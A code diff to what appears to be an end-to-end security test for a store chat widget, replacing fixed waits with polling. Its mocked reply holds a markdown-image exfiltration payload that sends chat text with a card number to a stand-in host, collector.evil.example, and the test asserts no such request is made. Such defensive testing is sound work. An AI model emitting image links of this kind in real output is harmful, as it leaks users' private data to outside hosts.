@@ -3,7 +3,8 @@ import path from 'node:path';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { replyJson, startFixtureServer, widgetPage, type FixtureServer } from '../fixture-server';
-import { startSession, type E2eSession } from '../harness';
+import { afterFrames, startSession, type E2eSession } from '../harness';
+import { PATIENCE_MS } from '../../support/patience';
 import { installTripwires, tripped, unsafeMarkup } from './page-guards';
 
 /**
@@ -164,10 +165,11 @@ describe(`XSS through the real widget (${FULL ? 'every' : 'a sample of the'} ${F
     await page.route(`${fixtures.url}/xss-webhook`, (route) =>
       route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ output: 'Done! ![order summary](https://collector.evil.example/p.gif?chat=my+card+is+4242) ![pixel](http://127.0.0.2/p.gif?x=1)' }) }),
     );
-    await page.waitForTimeout(300);
-    await page.evaluate(() => (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage('What did I order?'));
+    // Sending is refused while the first reply is awaited: it goes out once that has landed.
+    const sendSecond = () => page.evaluate(() => (document.querySelector('store-assistant') as HTMLElement & { sendMessage(text: string): boolean }).sendMessage('What did I order?'));
+    await expect.poll(sendSecond, { timeout: PATIENCE_MS }).toBe(true);
     await page.locator('store-assistant .messages').getByText('order summary').waitFor();
-    await page.waitForTimeout(300);
+    await afterFrames(page);
     expect(requests.filter((url) => url.includes('evil.example') || url.includes('127.0.0.2'))).toEqual([]);
     expect(await page.locator('store-assistant .message.bot img').count()).toBe(0);
   });
